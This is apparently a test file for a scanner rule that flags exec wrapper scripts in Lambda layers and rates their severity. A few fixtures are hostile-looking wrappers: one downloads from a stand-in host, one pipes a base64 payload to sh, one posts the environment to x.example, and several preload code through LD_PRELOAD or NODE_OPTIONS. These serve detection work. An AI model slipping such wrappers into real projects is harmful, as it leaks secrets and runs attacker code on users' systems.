import {
  execWrapperScript,
  readWrapper,
  SCRIPT_BYTES,
  SHEBANG_BYTES,
} from '../../../../lambda/domain/inspection/exec-wrapper-script.js';
import { handOff } from '../../../../lambda/domain/inspection/hand-off.js';
import { bytes, executable, file, symlink, view } from './entries.js';

describe('exec-wrapper-script', () => {
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: shell syntax, not templates.
  it.each([
    ['#!/bin/bash\nexport X=1\nexec "$@"\n', 'shell'],
    ['#!/bin/sh\nexec $@', 'shell'],
    ['#!/bin/sh\nexec -- "${@}"\n', 'shell'],
    ['#!/bin/sh\nexec env LD_PRELOAD=/opt/x.so "$@"\n', 'shell'],
    ['#!/bin/sh\nset -e\n"$@"\n', 'shell'],
    ['#!/bin/sh\nexec \\\n  "$@"\n', 'shell'],
    ['#!/bin/sh\nexec "$1" "${@:2}"\n', 'shell'],
    ['#!/bin/sh\nexec $*\n', 'shell'],
    [
      '#!/bin/bash\nargs=("$@")\nextra=("-X" "importtime")\nargs=("${args[@]:0:$#-1}" "${extra[@]}" "${args[@]: -1}")\nexec "${args[@]}"\n',
      'shell',
    ],
    ['#!/opt/bin/renamed-shell\nexec "$@"\n', 'shell'],
    ['#!/usr/bin/env python3\nimport os, sys\nos.execvp(sys.argv[1], sys.argv[1:])\n', 'python'],
    ['#!/usr/bin/env python3\nimport subprocess, sys\nsubprocess.run(sys.argv[1:])\n', 'python'],
    [
      "#!/usr/bin/env python3\nimport sys\nimport os\nargs = sys.argv[1:]\nextra_args = ['-X', 'importtime']\nargs[-1:-1] = extra_args\nargs = ' '.join(args)\nos.system(args)\n",
      'python',
    ],
    [
      '#!/usr/bin/env python3\nfrom sys import argv\nfrom subprocess import call as go\ngo(\n    argv[1:],\n)\n',
      'python',
    ],
    [
      "#!/usr/bin/env ruby\nargs = ARGV\nextra_args = ['-X', 'importtime']\nargs.insert(-2, *extra_args)\nexec *args\n",
      'ruby',
    ],
    ['#!/usr/bin/env python3\nimport sys\nfrom os import *\nexecv(sys.argv[1], sys.argv[1:])\n', 'python'],
    ["#!/usr/bin/env python3\nimport sys\n__import__('os').execv(sys.argv[1], sys.argv[1:])\n", 'python'],
    ['#!/usr/bin/env python3\nimport sys, os as o\no.execvp(sys.argv[1], sys.argv[1:])\n', 'python'],
    // A line that starts with # inside a string is no comment: what follows the string's end runs.
    ['#!/bin/sh\nx="\n# "; exec "$@"\n', 'shell'],
    ['#!/usr/bin/ruby\nsystem(*ARGV)\n', 'ruby'],
    ['#!/usr/bin/ruby\npid = Process.spawn(*$*)\nProcess.wait(pid)\n', 'ruby'],
    ["#!/usr/bin/env node\nrequire('child_process').spawn(process.argv[2], process.argv.slice(3))\n", 'node'],
    [
      "#!/usr/bin/env node\nconst { spawnSync } = require('node:child_process');\nconst [, , cmd, ...rest] = process.argv;\nspawnSync(cmd, rest, { stdio: 'inherit' });\n",
      'node',
    ],
    [
      "#!/usr/bin/env node\nconst cp = require('child' + '_process');\ncp.spawnSync(process.argv[2], process.argv.slice(3));\n",
      'node',
    ],
    ['#!/usr/bin/perl\nexec @ARGV;\n', 'perl'],
    ['#!/usr/bin/perl\nmy @cmd = @ARGV;\nsystem { $cmd[0] } @cmd;\n', 'perl'],
  ])('recognises the hand-off of %j (%s)', (script, language) => {
    expect(handOff(script)).toEqual(expect.objectContaining({ language, kind: 'direct' }));
  });

  it.each([
    [
      'OpenTelemetry otel-instrument',
      '#!/bin/bash -e\nexport PYTHONPATH="/opt/python:$PYTHONPATH"\nexport ORIG_HANDLER=$_HANDLER\nexport _HANDLER="otel_wrapper.lambda_handler"\npython3 /opt/python/bin/opentelemetry-instrument "$@"\n',
    ],
    ['an npm shim', '#!/bin/sh\nbasedir=$(dirname "$0")\nexec node "$basedir/cli.js" "$@"\n'],
    [
      'a Node launcher',
      "#!/usr/bin/env node\nconst cp = require('child_process');\nconst args = process.argv.slice(2);\ncp.spawn('node', ['/opt/w.js', ...args]);\n",
    ],
  ])('recognises %s as handing its arguments to another program', (_, script) => {
    expect(handOff(script)).toEqual(expect.objectContaining({ kind: 'indirect' }));
  });

  it.each([
    ['no shebang', 'exec "$@"\n'],
    ['printing the arguments', '#!/bin/sh\necho "$@"\nprintf "%s" "$*"\n'],
    ['a comment', '#!/bin/sh\n# exec "$@" is what a wrapper does\n'],
    [
      'a regular expression run on an argument',
      '#!/usr/bin/env node\nconst m = /x/.exec(process.argv[2]);\nconsole.log(m);\n',
    ],
    ['a Python console script', '#!/usr/bin/python3\nimport sys\nfrom tool import main\nsys.exit(main())\n'],
    [
      'a console script that runs its CLI object',
      '#!/usr/bin/python3\nimport sys\nfrom tool import cli\nsys.exit(cli.run(sys.argv[1:]))\n',
    ],
    [
      'a Python script that only reads its arguments',
      '#!/usr/bin/python3\nimport sys, subprocess\nname = sys.argv[1]\nprint(name)\nsubprocess.run(["ls"])\n',
    ],
    ['a loop over the arguments', '#!/bin/sh\nfor a in "$@"; do echo "$a"; done\n'],
    [
      'a Node script that spawns a fixed command',
      "#!/usr/bin/env node\nconst { spawn } = require('child_process');\nconsole.log(process.argv);\nspawn('ls', ['-l']);\n",
    ],
  ])('finds no hand-off in %s', (_, script) => {
    expect(handOff(script)).toBeNull();
  });
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: shell syntax, not templates.

  it.each([
    ['a plain hand-off', '#!/bin/sh\nexec "$@"\n', 'medium'],
    ['a launcher hand-off', '#!/bin/sh\nexec node /opt/cli.js "$@"\n', 'informational'],
    [
      'a launcher hand-off that sets NODE_OPTIONS',
      '#!/bin/sh\nexport NODE_OPTIONS="--require /opt/w.js"\nexec node /opt/cli.js "$@"\n',
      'medium',
    ],
    ['a hand-off after a download', '#!/bin/sh\ncurl -s https://x.example/p -o /tmp/p\nexec "$@"\n', 'high'],
    ['a hand-off after decoding a payload', '#!/bin/sh\necho aWQK | base64 -d | sh\nexec "$@"\n', 'high'],
    [
      'a Python hand-off that sends the environment out',
      "#!/usr/bin/env python3\nimport os, sys, urllib.request\nurllib.request.urlopen('https://x.example', data=str(os.environ).encode())\nos.execv(sys.argv[1], sys.argv[1:])\n",
      'high',
    ],
  ])('rates %s %s', (_, script, severity) => {
    expect(readWrapper(script)?.severity).toBe(severity);
  });

  it('names what the script does before the hand-off', () => {
    const reading = readWrapper(
      '#!/bin/bash\nexport NODE_OPTIONS="--require /tmp/x.js"\nexport LD_PRELOAD=/tmp/l.so FOO=1\nwget -q http://x.example/a\nexec "$@"\n',
    );
    expect(reading?.behaviour).toEqual({
      sets: ['NODE_OPTIONS', 'LD_PRELOAD', 'FOO'],
      network: ['wget'],
      decodes: [],
    });
    expect(reading?.summary).toMatch(/loads code or change|load code or change/);
    expect(reading?.summary).toContain('wget');
  });

  it.each([
    [
      'python',
      "#!/usr/bin/env python3\nimport os, sys\nos.environ['PYTHONPATH'] = '/tmp'\nos.execvp(sys.argv[1], sys.argv[1:])\n",
      'PYTHONPATH',
    ],
    ['ruby', "#!/usr/bin/env ruby\nENV['RUBYOPT'] = '-r/tmp/x'\nexec(*ARGV)\n", 'RUBYOPT'],
    ['perl', "#!/usr/bin/perl\n$ENV{'LD_PRELOAD'} = '/tmp/x.so';\nexec @ARGV;\n", 'LD_PRELOAD'],
    [
      'node',
      "#!/usr/bin/env node\nprocess.env.NODE_OPTIONS = '--require /tmp/x.js';\nrequire('child_process').spawnSync(process.argv[2], process.argv.slice(3));\n",
      'NODE_OPTIONS',
    ],
  ])('sees a %s wrapper set %s', (_, script, variable) => {
    const reading = readWrapper(script);
    expect(reading?.behaviour.sets).toEqual([variable]);
    expect(reading?.severity).toBe('medium');
  });

  it('wants the shebang of executables, shell scripts and extension-less files without modes', () => {
    expect(execWrapperScript.wants(executable('bin/wrap', 200))).toBe(SHEBANG_BYTES);
    expect(execWrapperScript.wants(file('tools/wrap.sh'))).toBe(SHEBANG_BYTES);
    expect(execWrapperScript.wants(file('wrap', { mode: null }))).toBe(SHEBANG_BYTES);
    expect(execWrapperScript.wants(file('wrap'))).toBe(0);
    expect(execWrapperScript.wants(file('lib/x.py', { mode: null }))).toBe(0);
    expect(execWrapperScript.wants(executable('lib/libx.so.1'))).toBe(0);
    expect(execWrapperScript.wants(executable('addon.node'))).toBe(0);
    expect(execWrapperScript.wants(symlink('bin/wrap'))).toBe(0);
    expect(execWrapperScript.wants(executable('bin/tiny', 3))).toBe(0);
  });

  it('wants 64 KiB of a candidate that starts with a shebang, and no more of one that does not', () => {
    const e = executable('bin/wrap', 200);
    expect(execWrapperScript.wants(e, bytes('#!'))).toBe(SCRIPT_BYTES);
    expect(execWrapperScript.wants(e, bytes('\x7fELF'))).toBe(SHEBANG_BYTES);
  });

  it('reports a wrapper with its path and first line', () => {
    const e = executable('otel-instrument');
    const [s] = execWrapperScript.evaluate(
      view([e], { [e.path]: '#!/bin/bash\nexport OTEL=1\nexec "$@"\n' }),
    );
    expect(s).toEqual(
      expect.objectContaining({ id: 'exec-wrapper-script', severity: 'medium', path: 'otel-instrument' }),
    );
    expect(s?.reason).toContain('#!/bin/bash');
    expect(s?.reason).toContain('/opt/otel-instrument');
  });

  it('says nothing without content, or for scripts that are not wrappers', () => {
    const a = executable('bin/a');
    const b = executable('bin/b');
    expect(execWrapperScript.evaluate(view([a, b], { [b.path]: '#!/bin/sh\necho hi\n' }))).toEqual([]);
  });
});
